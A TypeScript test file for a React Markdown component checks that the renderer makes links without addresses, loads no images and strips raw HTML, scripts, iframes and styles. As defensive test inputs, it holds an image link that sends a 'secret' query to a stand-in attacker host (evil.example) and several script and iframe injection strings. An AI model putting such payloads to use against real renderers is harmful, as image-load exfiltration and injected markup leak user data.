import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, it } from "vitest";
import { prepareMarkdown } from "./load-markdown.js";
import { Markdown } from "./markdown-view.js";

beforeAll(prepareMarkdown);

const html = (text: string, isComplete = true): string =>
  renderToStaticMarkup(createElement(Markdown, { text, isComplete }));

describe("Markdown", () => {
  it("is drawn with the elements of its parts", () => {
    const drawn = html(
      "# A\n\n1. [x] b\n\n> c\n\n| d | e |\n|---|:-:|\n| 1 | ~~2~~ |\n\n***\n`f`  \n**g** *h*",
    );
    for (const part of [
      /<div role="heading" aria-level="4"[^>]*>A</,
      /<ol start="1"><li class="markdown-task"><input type="checkbox" disabled="" [^>]*checked=""\/>/,
      /<blockquote><p>c<\/p><\/blockquote>/,
      /<div class="markdown-table" role="region" aria-label="Table" tabindex="0"><table>/,
      /<th scope="col" class="align-center">e<\/th>/,
      /<td class="align-center"><del>2<\/del><\/td>/,
      /<hr\/>/,
      /<code>f<\/code><br\/><strong>g<\/strong> <em>h<\/em>/,
    ])
      expect(drawn).toMatch(part);
  });

  it("has links without an address, so that nothing opens them but their question", () => {
    const drawn = html("[a](https://example.com/x) https://example.org <b@example.com>");
    expect(drawn.match(/role="link"/g)).toHaveLength(3);
    expect(drawn).not.toMatch(/href|<a[ >]/);
    expect(drawn).toMatch(/<bdi>a<\/bdi>/);
  });

  it("loads no picture: not in text, tables, links and headings", () => {
    const picture = "![alt](https://evil.example/p.png?q=secret)";
    const drawn = html(
      `${picture}\n\n# ${picture}\n\n| ${picture} |\n|---|\n\n[${picture}](https://example.com)`,
    );
    expect(drawn).not.toMatch(/<img|src=|srcset|url\(/);
    expect(drawn).toContain("picture of evil.example, not loaded");
  });

  it("has no markup, style or script of its text", () => {
    const drawn = html(
      '<b style="x">a</b>\n\n<script>b</script>\n\n<iframe src="c">\n\n`<i>`\n\n```<u>\n<s>\n```\n\n[<img src=x>](https://d.example "<em>")',
    );
    expect(drawn).not.toMatch(/<(?:b|script|iframe|i|u|s|img|em)[ >]|<[^>]*\sstyle=/);
  });

  it("is the same for a text that is complete, and for one that grows, up to the colours", () => {
    expect(html("# A\n\ntext **b", false)).toBe(html("# A\n\ntext **b"));
  });
});
